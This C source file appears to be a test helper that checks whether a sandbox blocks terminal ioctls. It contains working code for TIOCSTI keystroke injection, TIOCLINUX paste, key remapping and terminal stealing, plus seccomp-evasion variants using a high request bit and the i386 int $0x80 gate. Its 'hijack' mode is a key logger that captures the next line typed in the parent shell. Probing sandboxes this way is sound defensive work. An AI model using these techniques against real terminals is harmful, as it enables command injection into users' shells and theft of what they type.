/* tiocsti MODE [TEXT]: terminal ioctls on fd 0, one attempt per run.
 *
 *   sti TEXT        TIOCSTI each byte of TEXT (type it into the terminal)
 *   sti-high TEXT   the same with bit 32 of the request set
 *   sti-i386 TEXT   the same through the i386 syscall gate (int $0x80)
 *   linux           TIOCLINUX (subcode 3, paste the selection)
 *   linux-high      TIOCLINUX with bit 32 set
 *   linux-i386      TIOCLINUX through int $0x80
 *   keymap          KDSKBSENT (redefine a function key's string)
 *   steal           from a new session, TIOCSCTTY with argument 1: take the
 *                   terminal away from the session it belongs to (root only)
 *   pgrp            tcsetpgrp(0, getpgrp()) from a new process group
 *   hijack FILE     return at once, leaving a process behind that waits a
 *                   second, makes itself the terminal's foreground process
 *                   group and copies the next line typed to FILE (or why it
 *                   could not to FILE.err): a key logger for the shell that
 *                   started the sandbox
 *   tcgets          TCGETS (the terminal works)
 *   winsz           TIOCGWINSZ
 *   write TEXT      write TEXT to fd 1
 *
 * Prints "MODE: ok" and exits 0 when the call succeeded, else
 * "MODE: <strerror>" on stderr and exits 1 (2 for usage). */
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define TIOCLINUX_CMD 0x541Cul
#define KDSKBSENT_CMD 0x4B49ul
#define HIGH_BIT      (1ul << 32)

static long ioctl64(int fd, unsigned long req, void *arg)
{
	long r = syscall(SYS_ioctl, fd, req, arg);
	return r < 0 ? -errno : r;
}

#if defined(__x86_64__)
/* A 64-bit process may still enter the kernel through the i386 gate; the
 * seccomp filter then sees AUDIT_ARCH_I386 and i386 syscall numbers. */
static long int80(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80"
	                 : "=a"(ret)
	                 : "a"(nr), "b"(a), "c"(b), "d"(c)
	                 : "memory", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15");
	return (int)ret;
}

static char *low_buffer(void)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
	               -1, 0);
	return p == MAP_FAILED ? NULL : p;
}
#define HAVE_I386 1
#else
#define HAVE_I386 0
#endif

static int report(const char *mode, long r)
{
	if (r >= 0) {
		printf("%s: ok\n", mode);
		return 0;
	}
	fprintf(stderr, "%s: %s\n", mode, strerror((int)-r));
	return 1;
}

static long sti(const char *text, int how)
{
	for (const char *c = text; *c; c++) {
		long r;
		if (how == 0)
			r = ioctl64(0, TIOCSTI, (void *)c);
		else if (how == 1)
			r = ioctl64(0, TIOCSTI | HIGH_BIT, (void *)c);
		else {
#if HAVE_I386
			char *buf = low_buffer();
			if (!buf)
				return -ENOMEM;
			buf[0] = *c;
			r = int80(54, 0, TIOCSTI, (long)(uintptr_t)buf);
#else
			return -ENOSYS;
#endif
		}
		if (r < 0)
			return r;
	}
	return 0;
}

static int hijack(const char *file)
{
	if (!*file)
		return 2;
	pid_t pid = fork();
	if (pid != 0)
		return pid < 0 ? 1 : 0;
	setpgid(0, 0);
	signal(SIGTTOU, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	sleep(1);
	char errfile[4096];
	snprintf(errfile, sizeof(errfile), "%s.err", file);
	if (tcsetpgrp(0, getpgrp()) < 0) {
		FILE *f = fopen(errfile, "w");
		if (f) {
			fprintf(f, "tcsetpgrp: %s\n", strerror(errno));
			fclose(f);
		}
		_exit(1);
	}
	char line[256];
	ssize_t n = read(0, line, sizeof(line));
	FILE *f = fopen(n > 0 ? file : errfile, "w");
	if (f) {
		if (n > 0)
			fwrite(line, 1, (size_t)n, f);
		else
			fprintf(f, "read: %s\n", n < 0 ? strerror(errno) : "end of file");
		fclose(f);
	}
	_exit(0);
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: tiocsti MODE [TEXT]\n");
		return 2;
	}
	const char *mode = argv[1], *text = argc > 2 ? argv[2] : "";
	setvbuf(stdout, NULL, _IONBF, 0);
	char sel[2] = {3, 0}; /* TIOCLINUX subcode 3: paste selection */
	if (strcmp(mode, "sti") == 0)
		return report(mode, sti(text, 0));
	if (strcmp(mode, "sti-high") == 0)
		return report(mode, sti(text, 1));
	if (strcmp(mode, "sti-i386") == 0)
		return report(mode, sti(text, 2));
	if (strcmp(mode, "linux") == 0)
		return report(mode, ioctl64(0, TIOCLINUX_CMD, sel));
	if (strcmp(mode, "linux-high") == 0)
		return report(mode, ioctl64(0, TIOCLINUX_CMD | HIGH_BIT, sel));
	if (strcmp(mode, "linux-i386") == 0) {
#if HAVE_I386
		char *buf = low_buffer();
		if (!buf)
			return report(mode, -ENOMEM);
		buf[0] = 3;
		return report(mode, int80(54, 0, (long)TIOCLINUX_CMD, (long)(uintptr_t)buf));
#else
		return report(mode, -ENOSYS);
#endif
	}
	if (strcmp(mode, "keymap") == 0) {
		/* struct kbsentry: func number, then the string. */
		unsigned char kbs[512] = {1};
		memcpy(kbs + 1, "echo KEYMAP\n", 12);
		return report(mode, ioctl64(0, KDSKBSENT_CMD, kbs));
	}
	if (strcmp(mode, "steal") == 0) {
		pid_t pid = fork();
		if (pid == 0) {
			if (setsid() < 0)
				_exit(100);
			long r = ioctl64(0, TIOCSCTTY, (void *)1);
			_exit(r < 0 ? (int)-r : 0);
		}
		int st = 0;
		waitpid(pid, &st, 0);
		int e = WIFEXITED(st) ? WEXITSTATUS(st) : 100;
		if (e == 100)
			return report("setsid", -EIO);
		return report(mode, -e);
	}
	if (strcmp(mode, "hijack") == 0)
		return hijack(text);
	if (strcmp(mode, "pgrp") == 0) {
		if (setpgid(0, 0) < 0)
			return report("setpgid", -errno);
		signal(SIGTTOU, SIG_IGN);
		return report(mode, tcsetpgrp(0, getpgrp()) < 0 ? -errno : 0);
	}
	if (strcmp(mode, "tcgets") == 0) {
		struct termios t;
		return report(mode, ioctl64(0, TCGETS, &t));
	}
	if (strcmp(mode, "winsz") == 0) {
		struct winsize w;
		long r = ioctl64(0, TIOCGWINSZ, &w);
		if (r >= 0)
			printf("rows=%d cols=%d\n", w.ws_row, w.ws_col);
		return report(mode, r);
	}
	if (strcmp(mode, "write") == 0)
		return report(mode, write(1, text, strlen(text)) < 0 ? -errno : 0);
	fprintf(stderr, "tiocsti: unknown mode '%s'\n", mode);
	return 2;
}
